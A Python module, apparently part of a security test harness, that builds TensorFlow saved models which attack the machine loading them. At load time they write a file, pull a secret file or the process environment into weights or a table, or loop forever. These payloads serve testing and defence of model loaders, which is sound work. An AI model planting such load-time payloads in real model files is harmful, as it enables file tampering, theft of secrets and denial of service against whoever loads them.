"""Models that reach outside when they are loaded."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from .saving import as_weights, save_with_main_op
from .table import VARIABLE, Victim, attack


@attack("loading", "writes a file when it is loaded")
def write_at_loading(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    path = str(victim.marker("write_at_loading"))
    save_with_main_op(directory, lambda _: tf.raw_ops.WriteFile(filename=path, contents="owned"))


@attack("loading", "puts the content of a file into its weights")
def file_to_weights(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    save_with_main_op(
        directory, lambda w: w.assign(as_weights(tf.io.read_file(str(victim.secret)))).op
    )


@attack("loading", "puts the environment into its weights by a dataset")
def environment_to_weights(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def main_op(w: Any) -> Any:
        lines = tf.data.TextLineDataset("/proc/self/environ")
        text = lines.reduce("", lambda old, new: old + new)
        # The variable that is looked for comes last, so that the end of a long environment counts.
        start = tf.strings.length(tf.strings.regex_replace(text, f"{VARIABLE}=.*", ""))
        return w.assign(as_weights(tf.strings.substr(text, start, 4096))).op

    save_with_main_op(directory, main_op)


@attack("loading", "fills a table from any file of the machine")
def file_to_table(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    def main_op(_: Any) -> Any:
        initializer = tf.lookup.TextFileInitializer(
            str(victim.secret),
            *(tf.string, tf.lookup.TextFileIndex.WHOLE_LINE),
            *(tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER),
        )
        return tf.lookup.StaticHashTable(initializer, -1)._initialize()

    save_with_main_op(directory, main_op)


@attack("loading", "loops for ever when it is loaded")
def loop_at_loading(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def main_op(w: Any) -> Any:
        (count,) = tf.while_loop(lambda n: n >= 0, lambda n: (n * 3 + 1) % 7, [0])
        return w.assign(tf.fill([4096], tf.cast(count, tf.float32))).op

    save_with_main_op(directory, main_op)
